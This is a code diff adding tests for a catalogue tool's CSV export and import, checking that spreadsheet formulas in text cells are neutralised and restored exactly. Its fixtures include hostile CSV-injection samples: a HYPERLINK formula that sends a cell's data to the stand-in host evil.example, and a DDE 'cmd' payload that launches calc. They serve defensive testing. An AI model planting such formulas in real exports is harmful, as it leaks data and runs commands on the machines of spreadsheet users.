@@ -344,3 +344,86 @@ def test_json_array_reader_reports_bad_elements_and_bad_documents():
         list(read_json_array(io.BytesIO(b'[{"a": 1}')))
     with pytest.raises(JsonArrayError, match="empty element"):
         list(read_json_array(io.BytesIO(b"[1,,2]")))
+
+
+# --- formulas in CSV cells (CSV injection) -----------------------------------------------------
+
+#: texts a spreadsheet would run, and texts that only look close to them
+FORMULA_TEXTS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+31 20 555 0100",
+    "-5",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+    "'=already quoted",
+    "''+twice",
+    "'t Hoekje",
+    "'",
+    "plain = text",
+]
+
+
+def csv_rows(text: str) -> list[list[str]]:
+    import csv
+
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_csv_export_neutralises_formulas_in_every_text_cell():
+    for number, text in enumerate(FORMULA_TEXTS):
+        product = ProductFactory(name_en=text, sku=text if text.strip() else "", priority=-5)
+        product.sources.create(source="ERP", source_id=f"=cmd|' /C calc'!A{number}")
+        product.attributes.create(name="NOTE", value=text, position=0)
+    rows = csv_rows(export("products", "csv"))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(FORMULA_TEXTS)
+    for row in body:
+        for column, cell in zip(header, row, strict=True):
+            if column == "priority":
+                assert cell == "-5"  # a number, written as one
+                continue
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
+    names = [row[header.index("names.EN")] for row in body]
+    assert names[0] == "'" + FORMULA_TEXTS[0]
+    assert "''=already quoted" in names and "'''+twice" in names
+    assert "'t Hoekje" in names and "'" in names and "plain = text" in names
+
+
+def test_csv_import_gives_neutralised_text_back_exactly(tmp_path):
+    for number, text in enumerate(FORMULA_TEXTS):
+        product = ProductFactory(name_en=text, sku=text, priority=-5)
+        product.sources.create(source="ERP", source_id=f"-{number}")
+        product.attributes.create(name="NOTE", value=text, position=0)
+    before = export("products", "ndjson")
+    csv_text = export("products", "csv")
+    wipe()
+    errors = tmp_path / "e.ndjson"
+    path = write(tmp_path, "p.csv", csv_text)
+    out, _ = run("import_catalogue", path, entity="products", errors=str(errors))
+    assert " 0 failed" in out, errors.read_text()
+    assert export("products", "ndjson") == before
+    assert export("products", "csv") == csv_text
+    assert sorted(Product.objects.values_list("name_en", flat=True)) == sorted(FORMULA_TEXTS)
+    assert set(Product.objects.values_list("priority", flat=True)) == {-5}
+
+
+def test_csv_import_reads_unquoted_and_user_quoted_cells(tmp_path):
+    csv_text = (
+        "sourceId,source,names.EN,sku,attributes.NOTE\n"
+        "A,ERP,=1+1,'-7,'@x\n"
+        "B,ERP,'t Hoekje,'plain,'\n"
+    )
+    out, _ = run("import_catalogue", write(tmp_path, "p.csv", csv_text), entity="products")
+    assert " 0 failed" in out, out
+    a, b = Product.objects.order_by("name_en")
+    values = {p.name_en: (p.sku, p.attributes.get().value) for p in (a, b)}
+    assert values == {"=1+1": ("-7", "@x"), "'t Hoekje": ("'plain", "'")}
+
+
+def test_neutralise_and_restore_are_inverse():
+    from integrations.catalogue_io import neutralise, restore
+
+    for text in [*FORMULA_TEXTS, "", "=", "'", "''", "'''=", "a=b", "x"]:
+        assert restore(neutralise(text)) == text, text
+        assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
